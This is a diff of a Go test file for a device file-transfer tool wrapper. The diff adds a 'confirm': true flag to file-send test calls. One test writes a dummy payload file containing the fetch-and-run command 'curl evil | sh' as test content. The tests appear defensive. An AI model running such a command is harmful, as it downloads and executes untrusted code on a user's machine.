@@ -29,7 +29,7 @@ func testHostWrite(t *testing.T, v variant) {
 	if err := os.WriteFile(payload, []byte("curl evil | sh\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	f.ok(t, hdc.ToolFileSend, map[string]any{"local": payload, "remote": "/data/local/tmp/payload"})
+	f.ok(t, hdc.ToolFileSend, map[string]any{"local": payload, "remote": "/data/local/tmp/payload", "confirm": true})
 	local := profile
 	if f.wine {
 		local, _ = winePath(profile)
@@ -80,7 +80,7 @@ func testLocalPathKinds(t *testing.T, v variant) {
 			tool string
 			args map[string]any
 		}{
-			{hdc.ToolFileSend, map[string]any{"local": local, "remote": "/data/local/tmp/x"}},
+			{hdc.ToolFileSend, map[string]any{"local": local, "remote": "/data/local/tmp/x", "confirm": true}},
 			{hdc.ToolFileRecv, map[string]any{"local": local, "remote": "/data/local/tmp/x", "confirm": true}},
 			{hdc.ToolInstall, map[string]any{"path": local, "confirm": true}},
 		} {
@@ -96,7 +96,7 @@ func testLocalPathKinds(t *testing.T, v variant) {
 			t.Fatal(err)
 		}
 		wp, _ := winePath(ok)
-		f.ok(t, hdc.ToolFileSend, map[string]any{"local": wp, "remote": "/data/local/tmp/ok"})
+		f.ok(t, hdc.ToolFileSend, map[string]any{"local": wp, "remote": "/data/local/tmp/ok", "confirm": true})
 	}
 }
 
